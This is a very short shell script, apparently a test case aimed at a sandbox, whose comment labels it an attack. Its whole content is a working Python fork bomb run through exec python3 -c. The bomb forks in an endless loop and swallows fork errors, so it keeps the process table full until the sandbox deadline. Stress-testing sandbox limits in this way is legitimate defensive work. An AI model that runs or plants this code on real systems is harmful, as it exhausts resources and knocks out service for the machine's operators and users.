# Attack: a fork bomb that never gives up: every process forks without end and shrugs off
# the forks that fail, so the sandbox stays full until its deadline.
exec python3 -c '
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
'
